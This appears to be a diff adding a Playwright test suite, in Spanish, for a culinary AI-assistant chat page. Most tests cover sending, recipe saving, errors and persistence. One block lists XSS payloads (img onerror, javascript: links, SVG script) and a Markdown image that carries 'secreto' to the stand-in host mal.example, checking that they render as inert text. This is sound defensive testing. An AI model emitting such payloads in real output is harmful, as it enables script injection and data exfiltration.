@@ -1,0 +1,395 @@
+import { expect, type Page, type Route } from '@playwright/test'
+import { expectAccessible, expectToast, signUp, test } from './kitchen.ts'
+
+const call = '**/functions/v1/ai-culinary-assistant'
+const flan = {
+  name: 'Flan de vainilla',
+  category: '',
+  servings: 6,
+  ingredients: [
+    { name: 'Leche', quantity: 1, unit: 'l' },
+    { name: 'Huevo', quantity: 6, unit: 'unidad' },
+  ],
+  method: 'Calentar la leche a 60 °C.\nMezclar con el huevo y cocer al baño maría a 80 °C.',
+}
+const reply = (response: string, more: object = {}) => ({
+  status: 200,
+  json: { response, engine: 'local', links: [], suggestions: [], ...more },
+})
+
+const input = (page: Page) => page.getByRole('textbox', { name: 'Tu consulta' })
+const log = (page: Page) => page.getByRole('log', { name: 'Conversación' })
+const send = (page: Page) => page.getByRole('button', { name: 'Enviar' })
+const waiting = (page: Page) => page.getByText('Generando respuesta...')
+
+const open = async (page: Page) => {
+  await page.goto('/ai-assistant')
+  await expect(input(page)).toBeVisible()
+}
+const ask = async (page: Page, question: string) => {
+  await input(page).fill(question)
+  await input(page).press('Enter')
+}
+/** Answers the calls that come, one behaviour after the other; the last one stays. */
+const answering = async (page: Page, ...behaviours: ((route: Route) => Promise<unknown>)[]) => {
+  const bodies: { messages: { role: string; content: string }[] }[] = []
+  await page.route(call, async (route) => {
+    bodies.push(route.request().postDataJSON())
+    await (behaviours.length > 1 ? behaviours.shift() : behaviours[0])?.(route)
+  })
+  return bodies
+}
+const says =
+  (response: string, more: object = {}) =>
+  (route: Route) =>
+    route.fulfill(reply(response, more))
+const never = () => new Promise<void>(() => undefined)
+
+test.beforeEach(async ({ cook }) => {
+  // One account for all tests: each begins with a conversation of its own.
+  await cook.goto('/dashboard')
+  await cook.evaluate(() => {
+    for (const storage of [localStorage, sessionStorage]) {
+      for (const key of Object.keys(storage)) if (key.startsWith('obrador-hasta-salir:')) storage.removeItem(key)
+    }
+  })
+})
+
+test('el recibimiento, las salidas y las sugerencias; accesible de día y de noche', async ({ cook }) => {
+  await open(cook)
+  await expect(cook.getByRole('heading', { level: 1, name: 'Asistente de I+D Culinario' })).toBeVisible()
+  await expect(log(cook).getByText('Hola, soy tu Asistente de I+D Culinario.')).toBeVisible()
+  await expect(cook.getByRole('link', { name: 'Portada' })).toHaveAttribute('href', '/')
+  await expect(cook.getByRole('link', { name: 'Gestión de Recetas' })).toHaveAttribute('href', '/recipes')
+  await expect(cook.getByText('Contesta el motor local: nada sale de este servidor.')).toBeVisible()
+  await expect(send(cook)).toBeDisabled()
+  const first = cook.getByRole('list', { name: 'Sugerencias' }).getByRole('button').first()
+  await expectAccessible(cook)
+  const question = await first.innerText()
+  await first.click()
+  await expect(log(cook).getByRole('heading', { name: question })).toBeVisible()
+  await expect(log(cook).getByText('Respuesta de: Motor local')).toBeVisible()
+  await expect(input(cook)).toBeFocused()
+})
+
+test('Enter envía, Shift+Enter salta de línea; ni en blanco, ni componiendo una letra, ni dos veces', async ({
+  cook,
+}) => {
+  const bodies = await answering(cook, never)
+  await open(cook)
+  await input(cook).fill('   \n ')
+  await input(cook).press('Enter')
+  await expect(send(cook)).toBeDisabled()
+  await input(cook).fill('Uno')
+  await input(cook).press('Shift+Enter')
+  await input(cook).pressSequentially('dos')
+  await expect(input(cook)).toHaveValue('Uno\ndos')
+  await input(cook).evaluate((area) =>
+    area.dispatchEvent(
+      new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, cancelable: true }),
+    ),
+  )
+  expect(bodies).toHaveLength(0)
+  await input(cook).press('Enter')
+  await expect(input(cook)).toHaveValue('')
+  await expect(waiting(cook)).toBeVisible()
+  // Sending is blocked while waiting; what is typed meanwhile stays.
+  await ask(cook, 'Otra cosa')
+  await expect(input(cook)).toHaveValue('Otra cosa')
+  expect(bodies.map(({ messages }) => messages)).toEqual([[{ role: 'user', content: 'Uno\ndos' }]])
+})
+
+test('el cuadro mide de 60 a 120 píxeles', async ({ cook }) => {
+  await open(cook)
+  const height = async () => (await input(cook).boundingBox())?.height
+  expect(await height()).toBe(60)
+  await input(cook).fill('línea\n'.repeat(30))
+  expect(await height()).toBe(120)
+  await input(cook).fill('')
+  expect(await height()).toBe(60)
+})
+
+test('la receta que trae la respuesta se guarda sola, una vez, y se puede abrir', async ({ cook }) => {
+  const saves: string[] = []
+  cook.on('request', (request) => {
+    if (request.method() === 'POST' && request.url().endsWith('/rest/v1/recipes')) saves.push(request.postData() ?? '')
+  })
+  await answering(cook, says('Un **flan** de restaurante.', { recipe: flan }))
+  await open(cook)
+  await ask(cook, 'Crea un flan')
+  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
+  const sheet = log(cook).getByRole('region', { name: 'Flan de vainilla' })
+  await expect(sheet.getByText('6 raciones')).toBeVisible()
+  await expect(sheet.getByText('Sin categoría')).toBeVisible()
+  await expect(sheet.getByText('Guardada en tu Biblioteca')).toBeVisible()
+  await expectAccessible(cook)
+  expect(saves).toHaveLength(1)
+  expect(JSON.parse(saves[0] ?? '{}')).toMatchObject({
+    name: 'Flan de vainilla',
+    category: 'Sin categoría',
+    servings: 6,
+  })
+
+  await cook.reload()
+  await expect(sheet.getByText('Guardada en tu Biblioteca')).toBeVisible()
+  expect(saves).toHaveLength(1)
+  await sheet.getByRole('link', { name: 'Abrir la receta' }).click()
+  await expect(cook.getByRole('heading', { level: 1, name: 'Flan de vainilla' })).toBeVisible()
+})
+
+test('«Ver en Biblioteca» lleva a la biblioteca', async ({ cook }) => {
+  await answering(cook, says('Va.', { recipe: flan }))
+  await open(cook)
+  await ask(cook, 'Crea un flan')
+  await cook.getByRole('button', { name: 'Ver en Biblioteca' }).click()
+  await expect(cook).toHaveURL('/library')
+  await expect(cook.getByRole('link', { name: /Flan de vainilla/ }).first()).toBeVisible()
+})
+
+test('si no se guarda, se dice, la receta queda y se guarda otra vez sin repetirse', async ({ cook }) => {
+  const ids: string[] = []
+  await answering(cook, says('Va.', { recipe: flan }))
+  await cook.route('**/rest/v1/recipes', (route) => {
+    if (route.request().method() !== 'POST') return route.fallback()
+    ids.push(route.request().postDataJSON().id)
+    return ids.length === 1 ? route.abort() : route.fallback()
+  })
+  await open(cook)
+  await ask(cook, 'Crea un flan')
+  await expectToast(cook, 'Error', 'No se pudo crear la receta')
+  await expect(log(cook).getByText('Esta receta no está guardada.')).toBeVisible()
+  await cook.reload()
+  await cook.getByRole('button', { name: 'Guardar otra vez' }).click()
+  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
+  await expect(log(cook).getByText('Guardada en tu Biblioteca')).toBeVisible()
+  expect(ids).toHaveLength(2)
+  expect(ids[0]).toBe(ids[1])
+})
+
+test.describe('cuando falla', () => {
+  const failures: [string, (route: Route) => Promise<unknown>, string, string?][] = [
+    ['sin servidor', (route) => route.abort(), 'Error al conectar con el asistente'],
+    [
+      'con un intermediario en medio',
+      (route) => route.fulfill({ status: 502, contentType: 'text/html', body: '<h1>Bad gateway</h1>' }),
+      'Error al conectar con el asistente',
+    ],
+    [
+      'con mensaje del servidor',
+      (route) => route.fulfill({ status: 503, json: { code: 'unavailable', message: 'El servidor está ocupado.' } }),
+      'Error al procesar tu consulta',
+      'El servidor está ocupado.',
+    ],
+    ['con media respuesta', (route) => route.fulfill({ status: 200, body: '{"resp' }), 'Error al procesar tu consulta'],
+  ]
+  for (const [name, behaviour, title, text] of failures) {
+    test(`${name}: su aviso, y la pregunta queda para hacerla otra vez`, async ({ cook }) => {
+      const bodies = await answering(cook, behaviour, says('Ahora sí.'))
+      await open(cook)
+      await ask(cook, '¿Qué es un roux?')
+      await expectToast(cook, title, text)
+      await expect(log(cook).getByRole('heading', { name: '¿Qué es un roux?' })).toBeVisible()
+      await expect(waiting(cook)).toBeHidden()
+      expect(bodies).toHaveLength(1)
+      await cook.getByRole('button', { name: 'Preguntar otra vez' }).click()
+      await expect(log(cook).getByText('Ahora sí.')).toBeVisible()
+      await expect(log(cook).getByRole('heading', { name: '¿Qué es un roux?' })).toHaveCount(1)
+      await expect(input(cook)).toBeFocused()
+    })
+  }
+})
+
+test('«Detener» deja de esperar, corta la llamada y la pregunta se puede corregir', async ({ cook }) => {
+  await answering(cook, never)
+  await open(cook)
+  await ask(cook, '¿Qué es un rux?')
+  const cut = cook.waitForEvent('requestfailed')
+  await cook.getByRole('button', { name: 'Detener' }).click()
+  await cut
+  await expect(waiting(cook)).toBeHidden()
+  await expect(log(cook).getByText('Sin respuesta.')).toBeVisible()
+  await expect(cook.getByRole('region', { name: 'Avisos' }).getByRole('button')).toHaveCount(0)
+  await cook.getByRole('button', { name: 'Corregir' }).click()
+  await expect(input(cook)).toHaveValue('¿Qué es un rux?')
+  await expect(input(cook)).toBeFocused()
+  await expect(log(cook).getByRole('heading', { name: '¿Qué es un rux?' })).toHaveCount(0)
+})
+
+test('la conversación sobrevive a recargar, a irse y volver, y se envía entera', async ({ cook }) => {
+  const bodies = await answering(cook, says('Mantequilla y harina.'), says('De 8 a 10 minutos.'))
+  await open(cook)
+  await ask(cook, '¿Qué es un roux?')
+  await expect(log(cook).getByText('Mantequilla y harina.')).toBeVisible()
+  await cook.reload()
+  await expect(log(cook).getByText('Mantequilla y harina.')).toBeVisible()
+  await input(cook).fill('¿Cuánto tarda?')
+  await cook.getByRole('link', { name: 'Gestión de Recetas' }).click()
+  await expect(cook).toHaveURL('/recipes')
+  await cook.goBack()
+  await expect(input(cook)).toHaveValue('¿Cuánto tarda?')
+  await input(cook).press('Enter')
+  await expect(log(cook).getByText('De 8 a 10 minutos.')).toBeVisible()
+  expect(bodies[1]?.messages.map(({ content }) => content)).toEqual([
+    '¿Qué es un roux?',
+    'Mantequilla y harina.',
+    '¿Cuánto tarda?',
+  ])
+})
+
+test('quien se va a otra pantalla mientras espera no pierde la respuesta', async ({ cook }) => {
+  let answer: () => void = () => undefined
+  const held = new Promise<void>((done) => {
+    answer = done
+  })
+  await answering(cook, async (route) => {
+    await held
+    await route.fulfill(reply('Va.', { recipe: flan }))
+  })
+  await open(cook)
+  await ask(cook, 'Crea un flan')
+  await cook.getByRole('link', { name: 'Gestión de Recetas' }).click()
+  await expect(cook).toHaveURL('/recipes')
+  answer()
+  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
+  await cook.goBack()
+  await expect(log(cook).getByText('Guardada en tu Biblioteca')).toBeVisible()
+})
+
+test('dos pestañas comparten la conversación sin pisarse', async ({ cook, context: _ }) => {
+  const other = await cook.context().newPage()
+  await answering(cook, says('Respuesta de la primera.'))
+  await answering(other, says('Respuesta de la segunda.'))
+  await open(cook)
+  await open(other)
+  await Promise.all([ask(cook, 'Pregunta de la primera'), ask(other, 'Pregunta de la segunda')])
+  for (const page of [cook, other]) {
+    await expect(log(page).getByText('Respuesta de la primera.')).toBeVisible()
+    await expect(log(page).getByText('Respuesta de la segunda.')).toBeVisible()
+  }
+})
+
+test('«Nueva conversación» empieza de cero y se puede deshacer; Salir se la lleva', async ({ page }) => {
+  await signUp(page)
+  await answering(page, says('Mantequilla y harina.'))
+  await open(page)
+  await ask(page, '¿Qué es un roux?')
+  await expect(log(page).getByText('Mantequilla y harina.')).toBeVisible()
+  await page.getByRole('button', { name: 'Nueva conversación' }).click()
+  await expect(log(page).getByText('Mantequilla y harina.')).toBeHidden()
+  await page.getByRole('button', { name: 'Deshacer' }).click()
+  await expect(log(page).getByText('Mantequilla y harina.')).toBeVisible()
+
+  await page.goto('/dashboard')
+  await page.getByRole('button', { name: 'Salir' }).click()
+  await expectToast(page, 'Sesión cerrada')
+  const kept = () => page.evaluate(() => Object.keys(localStorage).filter((key) => key.includes('hasta-salir')))
+  await expect.poll(kept).toEqual([])
+})
+
+test.describe('lo que un asistente no puede poner en pantalla', () => {
+  const attacks: [string, string, string][] = [
+    ['una imagen con trampa', '<img src=x onerror="window.hacked=1">', '<img src=x onerror="window.hacked=1">'],
+    [
+      'un enlace de JavaScript',
+      '<a href="javascript:window.hacked=1">pulsa</a>',
+      '<a href="javascript:window.hacked=1">pulsa</a>',
+    ],
+    ['SVG con guion', '<svg><script>window.hacked=1</script></svg>', '<svg><script>window.hacked=1</script></svg>'],
+    [
+      'una negrita con atributo',
+      '<strong onclick="window.hacked=1">hola</strong>',
+      '<strong onclick="window.hacked=1">hola</strong>',
+    ],
+    ['entidades', '&lt;script&gt;window.hacked=1&lt;/script&gt;', '&lt;script&gt;window.hacked=1&lt;/script&gt;'],
+    ['una imagen de Markdown', '![x](https://mal.example/?q=secreto)', '![x](https://mal.example/?q=secreto)'],
+    ['un enlace de Markdown', '[pulsa](https://mal.example)', '[pulsa](https://mal.example)'],
+    ['negritas sin cerrar', '**a **b** c', '**a b c'],
+    [
+      'un formulario',
+      '<form action=/x><input name=a><button>ok</button></form>',
+      '<form action=/x><input name=a><button>ok</button></form>',
+    ],
+    ['un comentario', '<!-- hola --><style>*{display:none}</style>', '<!-- hola --><style>*{display:none}</style>'],
+  ]
+  test('queda como texto, sin etiquetas ni atributos ni peticiones', async ({ cook }) => {
+    const outside: string[] = []
+    cook.on('request', (request) => {
+      if (request.url().includes('mal.example')) outside.push(request.url())
+    })
+    await answering(cook, ...attacks.map(([, text]) => says(text)))
+    await open(cook)
+    for (const [name, , shown] of attacks) {
+      await ask(cook, name)
+      const exchange = log(cook).getByRole('region', { name })
+      await expect(exchange.getByText(shown, { exact: true }), name).toBeVisible()
+      const found = await exchange
+        .locator('p')
+        .evaluateAll((paragraphs) =>
+          paragraphs.flatMap((one) => [...one.querySelectorAll('*')]).map((one) => one.outerHTML.slice(0, 80)),
+        )
+      expect(
+        found.filter((html) => !/^<(strong|em|br)>/.test(html)),
+        name,
+      ).toEqual([])
+    }
+    expect(await cook.evaluate(() => 'hacked' in window)).toBe(false)
+    expect(outside).toEqual([])
+  })
+
+  test('el formato que sí: negritas, listas y saltos', async ({ cook }) => {
+    await answering(cook, says('**Roux**\nMantequilla y *harina*:\n- 60 g\n- 60 g\n\n1. Fundir\n2. Añadir'))
+    await open(cook)
+    await ask(cook, '¿Qué es un roux?')
+    await expect(log(cook).locator('strong')).toHaveText('Roux')
+    await expect(log(cook).locator('em')).toHaveText('harina')
+    await expect(log(cook).getByRole('listitem')).toHaveText(['60 g', '60 g', 'Fundir', 'Añadir'])
+  })
+})
+
+test('4.000 caracteres pasan y 4.001 no; lo escrito no se recorta', async ({ cook }) => {
+  const bodies = await answering(cook, says('Leído.'))
+  await open(cook)
+  await input(cook).fill(`🦐<b>${'x'.repeat(3996)}`)
+  await expect(cook.getByText('4.001 de 4.000 caracteres. Acórtala para enviarla.')).toBeVisible()
+  await expect(send(cook)).toBeDisabled()
+  await input(cook).press('Enter')
+  expect(bodies).toHaveLength(0)
+  await input(cook).press('Backspace')
+  await input(cook).press('Enter')
+  await expect(log(cook).getByText('Leído.')).toBeVisible()
+  expect(bodies[0]?.messages[0]?.content).toHaveLength(4000)
+})
+
+test('sólo con el teclado: preguntar, detener, seguir una sugerencia', async ({ cook }) => {
+  await answering(cook, says('Va.', { suggestions: ['¿Y para 30 pax?'] }), never, says('Hecho.'))
+  await open(cook)
+  await input(cook).focus()
+  await cook.keyboard.type('¿Cuánto arroz por persona?')
+  await cook.keyboard.press('Enter')
+  await expect(log(cook).getByText('Va.', { exact: true })).toBeVisible()
+  await expect(input(cook)).toBeFocused()
+  await cook.keyboard.press('Shift+Tab')
+  await expect(cook.getByRole('button', { name: '¿Y para 30 pax?' })).toBeFocused()
+  await cook.keyboard.press('Enter')
+  await expect(waiting(cook)).toBeVisible()
+  await expect(input(cook)).toBeFocused()
+  await cook.keyboard.press('Tab')
+  await expect(cook.getByRole('button', { name: 'Detener' })).toBeFocused()
+  await cook.keyboard.press('Enter')
+  await expect(log(cook).getByText('Sin respuesta.')).toBeVisible()
+  await expect(input(cook)).toBeFocused()
+})
+
+test('lo último queda a la vista y el aviso no tapa el cuadro, también en un móvil', async ({ cook }) => {
+  await cook.setViewportSize({ width: 390, height: 700 })
+  await answering(cook, says('Uno.\n\n'.repeat(40)), says('El final.', { recipe: flan }))
+  await open(cook)
+  await ask(cook, 'Primera')
+  await expect(log(cook).getByRole('heading', { name: 'Primera' })).toBeInViewport()
+  await ask(cook, 'Segunda')
+  await expectToast(cook, '✅ Receta guardada en tu Biblioteca')
+  await expect(log(cook).getByRole('heading', { name: 'Segunda' })).toBeInViewport()
+  await input(cook).click({ trial: true })
+  await send(cook).scrollIntoViewIfNeeded()
+  await expect(input(cook)).toBeInViewport({ ratio: 1 })
+})
